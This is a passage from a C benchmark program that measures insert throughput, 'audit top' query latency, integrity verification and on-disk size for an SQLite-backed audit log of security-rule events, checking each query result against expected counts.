		for (size_t j = 0; j < k; j++) {
			make_row(c->k, i + j, n, &rows[j], &picks[j]);
			expect_row(c, &picks[j]);
		}
		t0 = bench_now_ns(CLOCK_MONOTONIC);
		ret = pdb_audit_insert_many(c->fill_db, rows, k, c->ids,
					    c->hashes, err);
		t1 = bench_now_ns(CLOCK_MONOTONIC);
		if (ret) {
			fprintf(stderr, "Error: fill: row %zu: %s\n", i, err);
			return ret;
		}
		spent += t1 - t0;
		if (i < CHUNK)
			first += t1 - t0;
		if (i >= last_from)
			last += t1 - t0;
		if ((i + k) % 200000 < BATCH || i + k == n) {
			printf("fill: %zu rows, %.0f rows/s\n", i + k,
			       (double)(i + k) / (spent / 1e9));
			fflush(stdout);
		}
	}
	c->fill_rate = (double)n / (spent / 1e9);
	c->fill_first = (double)(n < CHUNK ? n : CHUNK) / (first / 1e9);
	c->fill_last = (double)(n - last_from) / (last / 1e9);
	return check_count(c->fill_path, n, "fill");
}

/* ---- phase 3: audit top --------------------------------------------------- */

static const char *const top_cols[] = { NULL,  "events", "enforced", "shadow",
					"msg", "first",	 "last" };

static int top_cb(void *ctx, int ncols, const char *const *names,
		  const char *const *values)
{
	struct top_res *r = ctx;
	struct top_row *t;

	if (!values) {
		r->names_ok = ncols == (int)ARRAY_SIZE(top_cols);
		for (int i = 1; r->names_ok && i < ncols; i++)
			r->names_ok = !strcmp(names[i], top_cols[i]);
		return 0;
	}
	if (r->n >= RESULT_MAX) {
		r->overflow = true;
		return 1;
	}
	if (ncols != (int)ARRAY_SIZE(top_cols))
		return 1;
	t = &r->row[r->n++];
	snprintf(t->key, sizeof(t->key), "%s", values[0] ? values[0] : "NULL");
	t->events = values[1] ? strtoull(values[1], NULL, 10) : 0;
	t->enforced = values[2] ? strtoull(values[2], NULL, 10) : 0;
	t->shadow = values[3] ? strtoull(values[3], NULL, 10) : 0;
	t->msg_null = !values[4];
	snprintf(t->msg, sizeof(t->msg), "%s", values[4] ? values[4] : "");
	snprintf(t->first, sizeof(t->first), "%s", values[5] ? values[5] : "");
	snprintf(t->last, sizeof(t->last), "%s", values[6] ? values[6] : "");
	return 0;
}

/* The groups of one `--by`, for sorting as the SQL sorts. */
struct group_sort {
	const struct ctx *c;
	int base; /* offset of the kind in exp[] */
	int w;
};

static void group_key(const struct ctx *c, int g, char *buf, size_t len)
{
	if (g < RULES)
		snprintf(buf, len, "%u", rule_id_of((unsigned int)g));
	else if (g < RULES + SOURCES)
		snprintf(buf, len, "%s", c->k->saddr[g - RULES]);
	else
		snprintf(buf, len, "%s", c->k->exe[g - RULES - SOURCES]);
}

/* ORDER BY events DESC, key (an integer for rules, text otherwise). */
static int group_cmp(const void *pa, const void *pb, void *arg)
{
	const struct group_sort *gs = arg;
	int a = *(const int *)pa, b = *(const int *)pb;
	const struct expect *xa = &gs->c->exp[gs->w][a];
	const struct expect *xb = &gs->c->exp[gs->w][b];
	char ka[80], kb[80];

	if (xa->events != xb->events)
		return xa->events > xb->events ? -1 : 1;
	if (a < RULES)
		return rule_id_of((unsigned int)a) <
				       rule_id_of((unsigned int)b) ?
			       -1 :
			       1;
	group_key(gs->c, a, ka, sizeof(ka));
	group_key(gs->c, b, kb, sizeof(kb));
	return strcmp(ka, kb);
}

/* @r is the top @limit of @by over window @w, as written. */
static int check_top(const struct ctx *c, const char *by, int w,
		     unsigned int limit, const struct top_res *r, uint64_t *sum)
{
	struct group_sort gs = { .c = c, .w = w };
	int idx[GROUPS], n = 0, count;

	gs.base = !strcmp(by, "rule") ? 0 :
		  !strcmp(by, "src")  ? RULES :
					RULES + SOURCES;
	count = !strcmp(by, "rule") ? RULES :
		!strcmp(by, "src")  ? SOURCES :
				      EXES;
	for (int g = gs.base; g < gs.base + count; g++)
		if (c->exp[w][g].events)
			idx[n++] = g;
	qsort_r(idx, (size_t)n, sizeof(idx[0]), group_cmp, &gs);
	if ((unsigned int)n > limit)
		n = (int)limit;
	if (!r->names_ok || r->overflow || r->n != (size_t)n) {
		fprintf(stderr,
			"Error: audit top --by %s: %zu rows%s%s, expected %d\n",
			by, r->n, r->names_ok ? "" : ", unexpected columns",
			r->overflow ? " (too many)" : "", n);
		return -EIO;
	}
	*sum = 0;
	for (int j = 0; j < n; j++) {
		const struct expect *x = &c->exp[w][idx[j]];
		const struct top_row *t = &r->row[j];
		char key[80], first[32], last[32];
		const char *msg = idx[j] < RULES ? c->k->msg[idx[j]] : NULL;

		group_key(c, idx[j], key, sizeof(key));
		format_time(x->first_ns, first, sizeof(first));
		format_time(x->last_ns, last, sizeof(last));
		*sum += t->events;
		if (!strcmp(t->key, key) && t->events == x->events &&
		    t->enforced == x->enforced && t->shadow == x->shadow &&
		    (msg ? !t->msg_null && !strcmp(t->msg, msg) :
			   t->msg_null) &&
		    !strcmp(t->first, first) && !strcmp(t->last, last))
			continue;
		fprintf(stderr,
			"Error: audit top --by %s, row %d: got %s events=%" PRIu64
			" enforced=%" PRIu64 " shadow=%" PRIu64
			" msg=%s first=%s last=%s; expected %s %" PRIu64
			" %" PRIu64 " %" PRIu64 " %s %s %s\n",
			by, j + 1, t->key, t->events, t->enforced, t->shadow,
			t->msg_null ? "NULL" : t->msg, t->first, t->last, key,
			x->events, x->enforced, x->shadow, msg ? msg : "NULL",
			first, last);
		return -EIO;
	}
	return 0;
}

/* `audit top --by @by` since @since_ns, top @limit: ms into *@ms. */
static int run_top(struct ctx *c, const char *by, int w, unsigned int limit,
		   double *ms, uint64_t *sum)
{
	int64_t since = w != W_ALL ? T_END_NS - window_ns[w] : 0;
	char sql[1024], err[PDB_ERR_LEN] = "";
	bool truncated = false;
	double t0, t1;
	int ret;

	ret = pdb_audit_top_sql(by, since, limit, sql, sizeof(sql));
	if (ret) {
		fprintf(stderr, "Error: pdb_audit_top_sql(%s): %s\n", by,
			strerror(-ret));
		return ret;
	}
	memset(&c->res, 0, sizeof(c->res));
	t0 = bench_now_ns(CLOCK_MONOTONIC);
	ret = pdb_query_readonly(c->fill_path, sql, 0, top_cb, &c->res,
				 &truncated, err);
	t1 = bench_now_ns(CLOCK_MONOTONIC);
	*ms = (t1 - t0) / 1e6;
	if (ret < 0) {
		fprintf(stderr,
			"Error: audit top --by %s (%.0f ms): %s\n  %s\n", by,
			*ms, err, sql);
		return ret;
	}
	if (truncated) {
		fprintf(stderr, "Error: audit top --by %s: result cut\n", by);
		return -EIO;
	}
	return check_top(c, by, w, limit, &c->res, sum);
}

static int measure_top(struct ctx *c)
{
	uint64_t sum;
	double ms;
	int ret;

	/* Every rule once, untimed: the counts make up the whole log. */
	ret = run_top(c, "rule", 0, RULES * 2, &ms, &sum);
	if (ret)
		return ret;
	if (sum != c->o.fill) {
		fprintf(stderr,
			"Error: audit top --by rule: events sum to %" PRIu64
			", not %lu\n",
			sum, c->o.fill);
		return -EIO;
	}
	printf("audit top --by rule, every group: %d rules, events sum to %" PRIu64
	       " (%.0f ms); each top-%d result below checked\n",
	       RULES, sum, ms, TOP_LIMIT);
	for (unsigned long s = 0; s < c->o.queries; s++) {
		for (int k = 0; k < Q_COUNT; k++) {
			int q = (int)((k + s) % Q_COUNT);

			if (proc_stop)
				return -EINTR;
			ret = run_top(c, queries[q].by, (int)queries[q].w,
				      TOP_LIMIT, &c->q_ms[q][s], &sum);
			if (ret)
				return ret;
		}
	}
	return 0;
}

/* ---- phase 4: verify, size ------------------------------------------------ */

static int measure_verify(struct ctx *c)
{
	struct pdb_audit_verify v;
	char err[PDB_ERR_LEN] = "";
	double t0, t1;
	int ret;

	t0 = bench_now_ns(CLOCK_MONOTONIC);
	ret = pdb_audit_verify(c->fill_path, NULL, NULL, &v, err);
	t1 = bench_now_ns(CLOCK_MONOTONIC);
	if (ret) {
		fprintf(stderr, "Error: pdb_audit_verify: %s\n", err);
		return ret;
	}
	if (v.problems || v.rows != (int64_t)c->o.fill ||
	    v.head_id != (int64_t)c->o.fill) {
		fprintf(stderr,
			"Error: pdb_audit_verify: %" PRId64
			" rows, head %" PRId64 ", %" PRId64 " problems (%s)\n",
			v.rows, v.head_id, v.problems, v.first_problem);
		return -EIO;
	}
	c->verify_s = (t1 - t0) / 1e9;
	c->verify_rows = v.rows;
	return 0;
}

/* The file's size once closed (the WAL checkpointed), and by b-tree. */
static int measure_size(struct ctx *c)
{
	sqlite3_stmt *st = NULL;
	sqlite3 *h = NULL;
	struct stat sb;
	double n = (double)c->o.fill;

	pdb_close(c->fill_db);
	c->fill_db = NULL;
	if (stat(c->fill_path, &sb)) {
		int err = -errno;

		fprintf(stderr, "Error: %s: %s\n", c->fill_path,
			strerror(-err));
		return err;
	}
	c->db_bytes = sb.st_size;
	printf("\ndatabase of %lu rows: %.1f MB, %.0f bytes a row; b-trees of 1 MB or more (dbstat):\n",
	       c->o.fill, (double)sb.st_size / 1e6, (double)sb.st_size / n);
	if (sqlite3_open_v2(c->fill_path, &h, SQLITE_OPEN_READONLY, NULL) ==
		    SQLITE_OK &&
	    sqlite3_prepare_v2(h,
			       "SELECT name, sum(pgsize), sum(payload)"
			       " FROM dbstat GROUP BY name"
			       " HAVING sum(pgsize) >= 1000000 ORDER BY 2 DESC",
			       -1, &st, NULL) == SQLITE_OK) {
		while (sqlite3_step(st) == SQLITE_ROW)
			printf("  %-22s %8.1f MB %6.0f bytes a row (payload %.0f)\n",
			       (const char *)sqlite3_column_text(st, 0),
			       (double)sqlite3_column_int64(st, 1) / 1e6,
			       (double)sqlite3_column_int64(st, 1) / n,
			       (double)sqlite3_column_int64(st, 2) / n);
	} else {
		printf("  (no dbstat: %s)\n",
		       h ? sqlite3_errmsg(h) : "no handle");
	}
	sqlite3_finalize(st);
	sqlite3_close(h);
	return 0;
}

/* ---- report --------------------------------------------------------------- */

static struct bench_stat stat_of(const double *v, size_t n)
{
	struct bench_stat st = {};

	bench_stat_of(v, n, &st);
	return st;
}

static struct bench_stat ratio_of(const struct ctx *c, enum series_id a,
				  enum series_id b)
{
	double r[BENCH_MAX_SAMPLES];

	bench_ratios(c->rate[a], c->rate[b], c->o.rounds, r);
	return stat_of(r, c->o.rounds);
}

static void print_ratio(const struct ctx *c, const char *what, enum series_id a,
			enum series_id b)
{
	struct bench_stat r = ratio_of(c, a, b);

	printf("  %-36s %7.2fx  (%.2f..%.2f)\n", what, r.med, r.min, r.max);
}

static void report(struct ctx *c)
{
	struct bench_stat st[SR_COUNT], q[Q_COUNT] = {}, ratio, vs_plain;
	struct bench_stat rd[SR_COUNT], wr[SR_COUNT];
	const char *verdict;
	char top[640] = "";

	for (int id = 0; id < SR_COUNT; id++) {
		st[id] = stat_of(c->rate[id], c->o.rounds);
		rd[id] = stat_of(c->rd[id], c->o.rounds);
		wr[id] = stat_of(c->wr[id], c->o.rounds);
	}
	ratio = ratio_of(c, SR_B512, SR_ONE);
	vs_plain = ratio_of(c, SR_B512, SR_PLAIN);
	verdict = st[SR_B512].med >= TARGET_ROWS_S ? "met" : "NOT met";

	printf("\n%lu rows a round (single: %lu), median of %lu rounds (one warm-up round of a tenth not kept); rows/s, and bytes read and written a row (system calls):\n\n",
	       c->o.rows, c->o.single, c->o.rounds);
	printf("  %-15s %-25s %8s %8s %8s %7s %8s %8s\n", "series", "call",
	       "median", "min", "max", "us/row", "read B", "wrote B");
	for (int id = 0; id < SR_COUNT; id++)
		printf("  %-15s %-25s %8.0f %8.0f %8.0f %7.2f %8.0f %8.0f\n",
		       series[id].name, series[id].call, st[id].med, st[id].min,
		       st[id].max, st[id].med > 0 ? 1e6 / st[id].med : 0,
		       rd[id].med, wr[id].med);
	printf("\nratios, per round (median, min..max):\n");
	print_ratio(c, "batch512 / single (the ratio)", SR_B512, SR_ONE);
	print_ratio(c, "batch512 / plain batch512", SR_B512, SR_PLAIN);
	print_ratio(c, "batch4096 / batch512", SR_B4096, SR_B512);
	print_ratio(c, "plain batch512 / plain noidx", SR_PLAIN, SR_NOIDX);
	if (c->o.fill) {
		for (int k = 0; k < Q_COUNT; k++)
			q[k] = stat_of(c->q_ms[k], c->o.queries);
		printf("\nfill: %lu rows by %d spanning 7 days: %.0f rows/s (first %d: %.0f, last %d: %.0f)\n",
		       c->o.fill, BATCH, c->fill_rate, CHUNK, c->fill_first,
		       CHUNK, c->fill_last);
		printf("\naudit top (pdb_audit_top_sql, top %d, pdb_query_readonly) over %lu rows, ms, median of %lu:\n\n",
		       TOP_LIMIT, c->o.fill, c->o.queries);
		printf("  %-24s %9s %9s %9s\n", "query", "median", "min",
		       "max");
		for (int k = 0; k < Q_COUNT; k++)
			printf("  %-24s %9.1f %9.1f %9.1f\n", queries[k].name,
			       q[k].med, q[k].min, q[k].max);
		printf("\npdb_audit_verify: %" PRId64
		       " rows in %.2f s, %.0f rows/s, no break\n",
		       c->verify_rows, c->verify_s,
		       (double)c->verify_rows / c->verify_s);
		snprintf(
			top, sizeof(top),
			"; fill of %lu rows %.0f rows/s (last %dk %.0f); audit top over %lu rows (median of %lu): --by rule all %.0f ms, 1d %.0f ms, 1h %.1f ms; --by src %.0f ms; --by exe %.0f ms; verify %.2f s; %.0f bytes/row on disk",
			c->o.fill, c->fill_rate, CHUNK / 1000, c->fill_last,
			c->o.fill, c->o.queries, q[Q_RULE].med,
			q[Q_RULE_DAY].med, q[Q_RULE_HOUR].med, q[Q_SRC].med,
			q[Q_EXE].med, c->verify_s,
			(double)c->db_bytes / (double)c->o.fill);
	}
	printf("\ntarget: >= %.0f rows/s batched by %d: %s (%.0f)\n\n",
	       TARGET_ROWS_S, BATCH, verdict, st[SR_B512].med);
	printf("bench audit: rows_s=%.0f baseline=insert_one_per_tx single_rows_s=%.0f ratio=%.1f (median of %lu rounds of %lu rows, single %lu, ratio %.1f..%.1f: batch64 %.0f, batch4096 %.0f rows/s; plain sqlite batch512 %.0f, enforcer %.2fx of it; plain no index %.0f; batch512 wrote %.0f B/row, read %.0f%s; target >= %.0f rows/s %s)\n",
	       st[SR_B512].med, st[SR_ONE].med, ratio.med, c->o.rounds,
	       c->o.rows, c->o.single, ratio.min, ratio.max, st[SR_B64].med,
	       st[SR_B4096].med, st[SR_PLAIN].med, vs_plain.med,
	       st[SR_NOIDX].med, wr[SR_B512].med, rd[SR_B512].med, top,
	       TARGET_ROWS_S, verdict);
	fflush(stdout);
}

/* ---- main ----------------------------------------------------------------- */

static void usage(FILE *f)
{
	fprintf(f,
		"Usage: audit [--rows N] [--single N] [--rounds N] [--fill N]\n"
		"             [--queries N] [--dir DIR] [--keep]\n"
		"  --rows N     rows each batched series writes a round (200000)\n"
		"  --single N   rows written one a transaction a round (20000)\n"
		"  --rounds N   rounds kept, after a warm-up of a tenth (5)\n"
		"  --fill N     rows of the database audit top runs on\n"
		"               (1000000; 0: no fill, no query, no verify)\n"
		"  --queries N  runs of each audit top query (5)\n"
		"  --dir DIR    where the temp dir of the databases goes (/var/tmp)\n"
		"  --keep       keep the temp dir (the filled database)\n");
}

static int parse_opts(int argc, char **argv, struct opts *o)
{
	static const struct option lopts[] = {
		{ "rows", required_argument, NULL, 'n' },
		{ "single", required_argument, NULL, 's' },
		{ "rounds", required_argument, NULL, 'r' },
		{ "fill", required_argument, NULL, 'f' },
		{ "queries", required_argument, NULL, 'q' },
		{ "dir", required_argument, NULL, 'd' },
		{ "keep", no_argument, NULL, 'k' },
		{ "help", no_argument, NULL, 'h' },
		{},
	};
	int ch, err = 0;

	*o = (struct opts){ .rows = 200000,
			    .single = 20000,
			    .rounds = 5,
			    .fill = 1000000,
			    .queries = 5,
			    .dir = "/var/tmp" };
	while ((ch = getopt_long(argc, argv, "h", lopts, NULL)) != -1) {
		switch (ch) {
		case 'n':
			err = bench_parse_ulong("--rows", optarg, BATCH,
						10000000, &o->rows);
			break;
		case 's':
			err = bench_parse_ulong("--single", optarg, 10,
						10000000, &o->single);
			break;
		case 'r':
			err = bench_parse_ulong("--rounds", optarg, 1,
						BENCH_MAX_SAMPLES, &o->rounds);
			break;
		case 'f':
			err = bench_parse_ulong("--fill", optarg, 0, 100000000,
						&o->fill);
			if (!err && o->fill && o->fill < 10000) {
				fprintf(stderr,
					"Error: --fill takes 0 or at least 10000\n");
				err = -EINVAL;
			}
			break;
		case 'q':
			err = bench_parse_ulong("--queries", optarg, 1,
						BENCH_MAX_SAMPLES, &o->queries);
			break;
		case 'd':
			o->dir = optarg;
			break;
		case 'k':
			o->keep = true;
			break;
		case 'h':
			usage(stdout);
			exit(0);
		default:
			usage(stderr);
			return -EINVAL;
		}
		if (err)
			return err;
	}
	if (optind != argc) {
		usage(stderr);
		return -EINVAL;
	}
	return 0;
}

static void free_ctx(struct ctx *c)
{
	pdb_close(c->fill_db);
	if (c->dir[0] && !c->o.keep)
		bench_rm_tree(c->dir);
	else if (c->dir[0])
		printf("kept %s\n", c->dir);
	free(c->rows);
	free(c->picks);
	free(c->k);
	free(c);
}

static int alloc_ctx(struct ctx *c)
{
	size_t n = c->o.rows > c->o.single ? c->o.rows : c->o.single;

	if (n < BATCH)
		n = BATCH;
	c->k = calloc(1, sizeof(*c->k));
	c->rows = calloc(n, sizeof(*c->rows));
	c->picks = calloc(n, sizeof(*c->picks));
	if (!c->k || !c->rows || !c->picks)
		return -ENOMEM;
	make_corpus(c->k);
	for (size_t i = 0; i < n; i++)
		make_row(c->k, i, n, &c->rows[i], &c->picks[i]);
	return 0;
}

static void print_sample(const struct ctx *c)
{
	const struct pdb_audit *a = &c->rows[1];
	size_t uri = 0, exc = 0, ld = 0;
	size_t n = c->o.rows;

	for (size_t i = 0; i < n; i++) {
		uri += strlen(c->rows[i].uri);
		exc += strlen(c->rows[i].excerpt);
		ld += strlen(c->rows[i].logdata);
	}
	printf("rows like: rule %u \"%s\" action %s exe %s saddr %s uri %s excerpt %s\n",
	       a->rule_id, a->msg, a->action, a->exe, a->saddr, a->uri,
	       a->excerpt);
	printf("mean bytes: uri %.0f, excerpt %.0f, logdata %.0f; database in %s\n",
	       (double)uri / (double)n, (double)exc / (double)n,
	       (double)ld / (double)n, c->dir);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	struct ctx *c;
	int err;

	c = calloc(1, sizeof(*c));
	if (!c)
		return 1;
	if (parse_opts(argc, argv, &c->o)) {
		free(c);
		return 2;
	}
	bench_env_init();
	err = alloc_ctx(c);
	if (!err)
		err = make_dir(c);
	if (err)
		goto out;
	print_sample(c);
	err = measure_rates(c);
	if (!err && c->o.fill)
		err = fill(c);
	if (!err && c->o.fill)
		err = measure_top(c);
	if (!err && c->o.fill)
		err = measure_verify(c);
	if (!err && c->o.fill)
		err = measure_size(c);
	if (!err)
		report(c);
out:
	if (err == -EINTR)
		fprintf(stderr, "stopped\n");
	else if (err == -ENOMEM)
		fprintf(stderr, "Error: out of memory\n");
	free_ctx(c);
	return err ? 1 : 0;
}
